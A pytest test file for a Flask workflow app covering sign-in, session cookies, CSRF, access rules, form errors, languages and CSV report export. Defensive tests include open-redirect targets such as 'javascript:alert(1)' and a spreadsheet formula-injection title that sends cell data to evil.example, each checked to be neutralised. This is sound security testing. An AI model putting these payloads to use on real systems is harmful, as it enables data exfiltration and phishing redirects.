"""The pages with Flask's test client: signing in, the session cookie, CSRF, and the access rules — a page
reaches, refuses and lists exactly what the JSON API does for the same person."""
import csv
import io
import os
import re
import subprocess
import sys
from datetime import timedelta

import pytest

from api_fixtures import *  # noqa: F401,F403
from api_fixtures import Caller
from conftest import bpmn_file
from pages_support import Browser, signed_in

from engine import clock

TASK_LINK = re.compile(r'href="/tasks/([0-9a-f-]{36})"')
TAB_COUNT = re.compile(r'scope=(\w+)"[^>]*>[^<]*<span class="count">(\d+)</span>')


def _start(engine, business_key="C-1", actor="li"):
    engine.deploy([bpmn_file("first_contact.bpmn")])
    instance_id = engine.start("first_contact", business_key, {"owner": "li"}, actor=actor)
    task = engine.instance(instance_id)["tasks"][0]
    return instance_id, task["id"]


def test_the_inbox_and_the_task_page_say_what_each_follow_up_task_is_about(app, engine, identity):
    """Three follow-up tasks read as three things to do, not three rows of 跟进任务: the title first, the
    element's name beside it, and the task page shows the note the task was created with."""
    from sop_support import library_files

    engine.deploy(library_files("followup_task.bpmn"))
    li = signed_in(app, identity, "li", "agent", ["sales"])
    for n in (1, 2, 3):
        engine.start("followup_task", variables={"title": f"回访客户 {n}", "note": f"问一下第 {n} 批样品", "assignee": "li"})
    inbox = li.get("/inbox?scope=mine").get_data(as_text=True)
    titles = re.findall(r'class="task-title" href="/tasks/([0-9a-f-]{36})">([^<]+)</a>', inbox)
    assert sorted(t for _, t in titles) == ["回访客户 1", "回访客户 2", "回访客户 3"], inbox
    assert inbox.count("<span>跟进任务</span>") == 3
    task_id = next(i for i, t in titles if t == "回访客户 2")
    page = li.get(f"/tasks/{task_id}").get_data(as_text=True)
    assert "<h1>回访客户 2</h1>" in page and '<p class="task-note">问一下第 2 批样品</p>' in page


def test_a_deploy_says_what_bpmnlint_found_beside_its_version(app, engine, identity):
    """A file deployed without diagram layout deploys, and the designer is told what bpmnlint found (the
    API answers it as warnings; the page said only "Deployed ... as version 1")."""
    dora = signed_in(app, identity, "dora", "designer")
    name, xml = bpmn_file("first_contact.bpmn")
    answer = dora.post("/designer", {"files": (io.BytesIO(xml), name), "action": "deploy"},
                       content_type="multipart/form-data")
    assert answer.status_code == 302
    page = dora.get(answer.headers["Location"]).get_data(as_text=True)
    assert "Deployed" in page and "as version 1." in page
    said = re.search(r'<p class="flash warn"[^>]*>(.*?)</p>', page, re.S)
    assert said and "Worth a look (bpmnlint):" in said.group(1) and "BPMNDI" in said.group(1).upper(), page


def test_a_check_in_sent_empty_names_every_missing_field_at_once(app, engine, identity):
    """Pressing 打卡 with nothing chosen marks the customer and each required field, not the customer alone
    (the next try found 客户反馈 missing too); a required note of blanks is missing as well."""
    from engine.customers.checkins import define_template

    define_template(engine, "visit", "上门拜访", [
        {"name": "feedback", "label": "客户反馈", "type": "single", "options": ["满意", "不满意"], "required": True},
        {"name": "where", "label": "位置", "type": "location", "required": True},
        {"name": "photos", "label": "现场照片", "type": "photo", "max": 3},
        {"name": "note", "label": "备注", "type": "text", "required": True}], actor="ada")
    li = signed_in(app, identity, "li", "agent", ["sales-east"])
    answer = li.post("/checkin", {"scenario": "visit", "field.note": "   "})
    page = answer.get_data(as_text=True)
    assert answer.status_code == 422
    marked = re.findall(r'<p class="field-error" role="alert">([^<]+)</p>', page)
    assert len(marked) == 4 and marked[0] == "choose a customer" and marked.count("required") == 3, marked
    from engine.customers.checkins import get_template, validate_values
    from engine.errors import InvalidInput

    with pytest.raises(InvalidInput) as refused:  # the API's own check: blanks say nothing either
        validate_values(get_template(engine, "visit")["fields"], {"feedback": "满意", "note": " \u3000 ",
                                                                   "where": {"latitude": 30, "longitude": 120}})
    assert refused.value.errors == {"note": ["required"]}


def _token(identity, name):
    return identity.issue_token(name)[1]


# ---- signing in -------------------------------------------------------------------------------
def test_pages_need_a_session_and_the_sign_in_keeps_the_address(app, identity):
    anonymous = Browser(app)
    response = anonymous.get("/inbox?scope=mine")
    assert response.status_code == 302 and response.headers["Location"] == "/signin?next=/inbox?scope%3Dmine"
    assert anonymous.post("/tasks/x/claim").status_code == 401  # no session: refused before anything else
    identity.add_user("li", "agent", ["sales-east"])
    identity.set_password("li", "secret-li")
    anonymous.get("/signin")
    signed = anonymous.post("/signin", {"username": "li", "password": "secret-li", "next": "/inbox?scope=mine"})
    assert signed.status_code == 302 and signed.headers["Location"] == "/inbox?scope=mine"


def test_the_session_cookie_is_httponly_and_samesite_lax(app, identity):
    identity.add_user("li", "agent", ["sales-east"])
    identity.set_password("li", "secret-li")
    browser = Browser(app)
    browser.get("/signin")
    response = browser.post("/signin", {"username": "li", "password": "secret-li"})
    cookie = next(c for c in response.headers.getlist("Set-Cookie") if c.startswith("followup_session="))
    assert "HttpOnly" in cookie and "SameSite=Lax" in cookie
    assert browser.get("/inbox").status_code == 200


def test_a_wrong_password_an_unknown_name_or_a_deactivated_user_cannot_sign_in(app, identity):
    identity.add_user("li", "agent", ["sales-east"])
    identity.set_password("li", "secret-li")
    identity.add_user("nopass", "agent")
    browser = Browser(app)
    for name, password in (("li", "wrong-password"), ("nobody", "secret-li"), ("nopass", ""), ("li", "")):
        response = browser.sign_in(name, password)
        assert response.status_code == 401
        assert "The user name or the password is not right." in response.get_data(as_text=True)
    assert browser.sign_in("li", "secret-li").status_code == 302
    identity.update_user("li", active=False)
    assert browser.get("/inbox").status_code == 302  # the session ends with the user
    assert browser.sign_in("li", "secret-li").status_code == 401


def test_a_new_password_ends_the_sessions_made_with_the_old_one(app, identity):
    browser = signed_in(app, identity, "li", "agent", ["sales-east"])
    assert browser.get("/inbox").status_code == 200
    identity.set_password("li", "another-secret")
    assert browser.get("/inbox").headers["Location"].startswith("/signin")


def test_sign_in_never_sends_you_to_another_site(app, identity):
    identity.add_user("li", "agent", ["sales-east"])
    identity.set_password("li", "secret-li")
    for target in ("//evil.example/x", "https://evil.example/", "/\\evil.example", "javascript:alert(1)"):
        browser = Browser(app)
        browser.get("/signin")
        response = browser.post("/signin", {"username": "li", "password": "secret-li", "next": target})
        assert response.headers["Location"] == "/inbox", target


def test_sign_out_ends_the_session(app, identity):
    browser = signed_in(app, identity, "li", "agent", ["sales-east"])
    browser.get("/inbox")
    assert browser.post("/signout").status_code == 302
    assert browser.get("/inbox").status_code == 302


def test_the_user_password_command_reads_standard_input(engine, identity, tmp_path):
    identity.add_user("zoe", "agent", ["service"])
    env = {**os.environ, "DATABASE_URL": engine.db.url.render_as_string(hide_password=False),
           "FOLLOWUP_DATA_DIR": str(tmp_path)}
    done = subprocess.run([sys.executable, "-m", "followup.cli", "user", "password", "zoe"], input="zoe-secret-1\n",
                          capture_output=True, text=True, env=env, timeout=120)
    assert done.returncode == 0 and done.stdout == "", done.stderr
    assert identity.sign_in("zoe", "zoe-secret-1")[0].name == "zoe"
    assert identity.sign_in("zoe", "zoe-secret-1\n") is None
    short = subprocess.run([sys.executable, "-m", "followup.cli", "user", "password", "zoe"], input="short\n",
                           capture_output=True, text=True, env=env, timeout=120)
    assert short.returncode == 1 and "8 to 200 characters" in short.stderr


# ---- CSRF -------------------------------------------------------------------------------------
def test_a_page_post_without_the_csrf_token_is_refused_and_the_api_needs_none(app, engine, identity):
    _instance_id, task_id = _start(engine)
    li = signed_in(app, identity, "li", "agent", ["sales-east"])
    li.get("/inbox")
    for data in ({}, {"csrf_token": "forged"}):
        refused = li.post(f"/tasks/{task_id}/claim", data, csrf=False)
        assert refused.status_code == 400 and "The form has expired" in refused.get_data(as_text=True)
    assert engine.task(task_id)["assignee"] is None
    assert li.post(f"/tasks/{task_id}/claim", {"next": "/inbox"}).status_code == 302
    assert engine.task(task_id)["assignee"] == "li"
    # The JSON API authenticates with a Bearer token and never reads the cookie: no CSRF token needed.
    api = Caller(app.test_client(), _token(identity, "li"))
    assert api.post(f"/api/tasks/{task_id}/unclaim").status_code == 200
    # ...and the session cookie alone does not authenticate an API call.
    assert li.client.post(f"/api/tasks/{task_id}/claim").status_code == 401


# ---- reach and rights: the API's answer -------------------------------------------------------
def test_an_agent_cannot_open_another_teams_task_or_instance(app, engine, identity):
    instance_id, task_id = _start(engine)
    li = signed_in(app, identity, "li", "agent", ["sales-east"])
    sam = signed_in(app, identity, "sam", "agent", ["service"])
    chief = signed_in(app, identity, "chief", "supervisor", ["service"])
    assert li.get(f"/tasks/{task_id}").status_code == 200
    assert li.get(f"/instances/{instance_id}").status_code == 200
    for outsider in (sam, chief):
        api = Caller(app.test_client(), _token(identity, outsider.name))
        for page, api_path in ((f"/tasks/{task_id}", f"/api/tasks/{task_id}"),
                               (f"/instances/{instance_id}", f"/api/instances/{instance_id}")):
            answer = outsider.get(page)
            assert answer.status_code == api.get(api_path).status_code == 404
            assert "C-1" not in answer.get_data(as_text=True)
        assert outsider.post(f"/tasks/{task_id}/claim").status_code == 404
    assert engine.task(task_id)["assignee"] is None


def test_the_inbox_page_lists_what_the_api_lists(app, engine, identity):
    _start(engine, "C-1")
    _start(engine, "C-2")
    for name, role, groups in (("li", "agent", ["sales-east"]), ("sam", "agent", ["service"]),
                               ("boss", "supervisor", ["sales-east", "supervisors"]), ("ada", "admin", [])):
        browser = signed_in(app, identity, name, role, groups)
        api = Caller(app.test_client(), _token(identity, name))
        for scope in ("all", "mine", "group", "unassigned"):
            html = browser.get(f"/inbox?scope={scope}").get_data(as_text=True)
            listed = api.get(f"/api/tasks?scope={scope}").get_json()
            assert TASK_LINK.findall(html) == [t["id"] for t in listed["items"]], (name, scope)
            counts = dict(TAB_COUNT.findall(html))
            assert int(counts[scope]) == listed["total"], (name, scope)
        assert ("C-1" in browser.get("/instances").get_data(as_text=True)) == (
            api.get("/api/instances").get_json()["total"] > 0)


def test_rights_refused_by_the_api_are_refused_by_the_pages(app, engine, identity):
    instance_id, task_id = _start(engine)
    li = signed_in(app, identity, "li", "agent", ["sales-east"])  # she started it: in reach, no right to cancel
    api = Caller(app.test_client(), _token(identity, "li"))
    assert li.get("/reports").status_code == 403
    assert api.get("/api/reports/funnel?team=sales-east").status_code == 403
    assert li.post(f"/instances/{instance_id}/cancel").status_code == api.post(
        f"/api/instances/{instance_id}/cancel").status_code == 403
    assert li.post("/instances/batch", {"action": "cancel", "id": instance_id}).status_code == 403
    assert li.post(f"/tasks/{task_id}/assign", {"user": "li"}).status_code == 403
    assert engine.instance(instance_id)["status"] == "user_input"
    page = li.get(f"/instances/{instance_id}").get_data(as_text=True)
    assert "/cancel" not in page and "/suspend" not in page  # no button for what she may not do


def test_the_cockpit_counts_only_what_the_supervisor_reaches(app, engine, identity):
    _start(engine)
    boss = signed_in(app, identity, "boss", "supervisor", ["sales-east"])
    chief = signed_in(app, identity, "chief", "supervisor", ["service"])
    assert "首次联系 First contact" in boss.get("/cockpit").get_data(as_text=True)
    assert "首次联系 First contact" not in chief.get("/cockpit").get_data(as_text=True)
    assert "No instance is running." in chief.get("/cockpit").get_data(as_text=True)


# ---- the task form ----------------------------------------------------------------------------
def test_bad_form_values_come_back_beside_their_fields(app, engine, identity):
    _instance_id, task_id = _start(engine)
    li = signed_in(app, identity, "li", "agent", ["sales-east"])
    li.get(f"/tasks/{task_id}")
    li.post(f"/tasks/{task_id}/claim")
    bad = li.post(f"/tasks/{task_id}/complete", {"field.outcome": "maybe", "field.note": "x" * 21})
    html = bad.get_data(as_text=True)
    assert bad.status_code == 422
    outcome = html[html.index('data-field="outcome"'):html.index('data-field="note"')]
    note = html[html.index('data-field="note"'):]
    assert "choose one of the options" in outcome and "must be at most 20 characters long" in note
    zh = li.post(f"/tasks/{task_id}/complete", {"field.outcome": ""}, headers={"Accept-Language": "zh-CN"})
    assert "必填" in zh.get_data(as_text=True) and "is required" not in zh.get_data(as_text=True)
    done = li.post(f"/tasks/{task_id}/complete", {"field.outcome": "reached", "field.note": "周五回电"})
    assert done.status_code == 302
    assert engine.task(engine.instance(_instance_id)["tasks"][0]["id"])["element_id"] == "qualify"


# ---- languages --------------------------------------------------------------------------------
def test_the_language_comes_from_the_switch_else_the_browser(app, identity):
    browser = Browser(app, headers={"Accept-Language": "zh-CN,zh;q=0.9,en;q=0.8"})
    assert "<h1>登录</h1>" in browser.get("/signin").get_data(as_text=True)
    english = Browser(app, headers={"Accept-Language": "en-US,en;q=0.9"})
    assert "<h1>Sign in</h1>" in english.get("/signin").get_data(as_text=True)
    switched = english.post("/language", {"lang": "zh_CN", "next": "/signin"})
    assert switched.status_code == 302 and switched.headers["Location"] == "/signin"
    assert "<h1>登录</h1>" in english.get("/signin").get_data(as_text=True)  # the cookie wins over the header
    english.post("/language", {"lang": "klingon", "next": "/signin"})
    assert "<h1>登录</h1>" in english.get("/signin").get_data(as_text=True)
    assert english.post("/language", {"lang": "en"}, csrf=False).status_code == 400


def test_errors_read_in_the_readers_language(app, engine, identity):
    _instance_id, task_id = _start(engine)
    li = signed_in(app, identity, "li", "agent", ["sales-east"])
    li.headers = {"Accept-Language": "zh-CN"}
    li.post(f"/tasks/{task_id}/claim")
    wang = signed_in(app, identity, "wang", "agent", ["sales-east"])
    wang.headers = {"Accept-Language": "zh-CN"}
    taken = wang.post(f"/tasks/{task_id}/claim").get_data(as_text=True)
    assert "li 已经领取了这个任务" in taken and "already" not in taken
    missing = wang.get("/tasks/00000000-0000-0000-0000-000000000000").get_data(as_text=True)
    assert "没有这个待办任务" in missing and "no open task" not in missing
    assert "没有这个页面" in wang.get("/no-such-page").get_data(as_text=True)


# ---- reports ----------------------------------------------------------------------------------
def test_the_cockpit_dates_an_incident_when_it_happened_not_when_the_instance_last_changed(app, engine, identity):
    from api.pages.i18n import when

    engine.deploy([bpmn_file("script_failure.bpmn")])
    instance = engine.instance(engine.start("script_failure"))
    engine.complete_task(instance["tasks"][0]["id"], {"total": 10, "people": 0}, actor="li")
    happened = engine.instance(instance["id"])["incident"]["at"]
    clock.advance(timedelta(hours=3))
    engine.suspend(instance["id"], actor="ada")
    engine.resume(instance["id"], actor="ada")
    ada = signed_in(app, identity, "ada", "admin", [])
    page = ada.get("/cockpit", headers={"Accept-Language": "en"}).get_data(as_text=True)
    with app.test_request_context(headers={"Accept-Language": "en"}):
        at, later = when(happened), when(clock.now())
    incidents = page[page.index("Open incidents"):page.index("Overdue tasks per team")]
    assert at in incidents and later not in incidents, incidents


def test_a_report_exports_as_csv_with_headers_in_the_readers_language(app, engine, identity):
    _instance_id, task_id = _start(engine)
    engine.claim(task_id, "li")
    engine.complete_task(task_id, {"outcome": "reached"}, actor="li")
    identity.add_user("li", "agent", ["sales-east"])
    boss = signed_in(app, identity, "boss", "supervisor", ["sales-east"])
    page = boss.get("/reports?report=leaderboard&team=sales-east")
    assert page.status_code == 200 and ">li<" in page.get_data(as_text=True)
    exported = boss.get("/reports.csv?report=leaderboard&team=sales-east&days=30",
                        headers={"Accept-Language": "zh-CN"})
    assert exported.mimetype == "text/csv" and "attachment" in exported.headers["Content-Disposition"]
    text = exported.get_data(as_text=True)
    assert text.startswith("\ufeff")  # Excel reads the Chinese as it is
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0][:2] == ["坐席", "完成任务"] and rows[1][:2] == ["li", "1"]
    other = boss.get("/reports?report=sla&team=service")  # not her team: she gets her own
    assert "sales-east" in other.get_data(as_text=True)


def test_a_report_csv_gives_a_title_a_spreadsheet_would_run_as_text(app, engine, identity):
    """A contract titled =HYPERLINK(...) must not become a live link (or a command) in the supervisor's Excel."""
    from engine.customers import customers
    from engine.customers.records import create_record
    from engine.customers.vocab import seed_defaults

    seed_defaults(engine)
    identity.add_user("li", "agent", ["sales-east"])
    customer, _ = customers.create_customer(engine, {"name": "宁波某某有限公司", "owner": "li", "team": "sales-east"},
                                            actor="li")
    title = '=HYPERLINK("http://evil.example/?x="&A1,"点我续约")'
    create_record(engine, "contract", {"customer_id": customer["id"], "title": title, "owner": "li",
                                       "team": "sales-east", "end_date": (clock.now() - timedelta(days=3)).date()},
                  actor="li")
    boss = signed_in(app, identity, "boss", "supervisor", ["sales", "sales-east"])
    exported = boss.get("/reports.csv?report=renewals&team=sales-east&days=30").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(exported.lstrip("\ufeff"))))
    assert [r[1] for r in rows[1:]] == ["'" + title], rows
    chinese = boss.get("/reports.csv?report=renewals&days=30", headers={"Accept-Language": "zh-CN"}).get_data(
        as_text=True)
    rows = list(csv.reader(io.StringIO(chinese.lstrip("\ufeff"))))
    assert rows[0][-1] != "outcome" and rows[1][-1] == "进行中", rows  # the page's words, not the code 'open'
    # her first look covers all her teams (the first of them, 'sales', showed no data)
    page = boss.get("/reports?report=renewals").get_data(as_text=True)
    assert '<option value="">All my teams</option>' in page and "点我续约" in page


def test_a_customer_the_api_hides_is_not_named_on_the_pages(app, engine, identity):
    from engine.customers import customers
    from engine.customers.vocab import seed_defaults

    seed_defaults(engine)
    sam = signed_in(app, identity, "sam", "agent", ["service", "sales-east"])
    hidden, _ = customers.create_customer(engine, {"name": "保密客户有限公司", "owner": "sam", "team": "service",
                                                   "phone": "13811112222"}, actor="sam")
    _instance_id, task_id = _start(engine, str(hidden["id"]))  # li's, offered to sales-east, about service's customer
    li = signed_in(app, identity, "li", "agent", ["sales-east", "west"])
    # li is given a task about the customer: reads what it needs (issue 12 item 7), on the API and the pages
    assert Caller(app.test_client(), _token(identity, "li")).get(f"/api/customers/{hidden['id']}").status_code == 200
    assert "+8613811112222" in li.get(f"/tasks/{task_id}").get_data(as_text=True)
    # li takes it; li's supervisor in west reaches the task through li, but is given nothing about the customer
    if engine.task(task_id)["assignee"] != "li":
        engine.claim(task_id, "li")
    west = signed_in(app, identity, "wu", "supervisor", ["west"])
    assert Caller(app.test_client(), _token(identity, "wu")).get(f"/api/customers/{hidden['id']}").status_code == 404
    for page in ("/inbox?scope=all", f"/tasks/{task_id}"):
        html = west.get(page).get_data(as_text=True)
        assert task_id in html and "保密客户有限公司" not in html and "13811112222" not in html, page
    assert "保密客户有限公司" in sam.get("/inbox").get_data(as_text=True)
    assert "+8613811112222" in sam.get(f"/tasks/{task_id}").get_data(as_text=True)
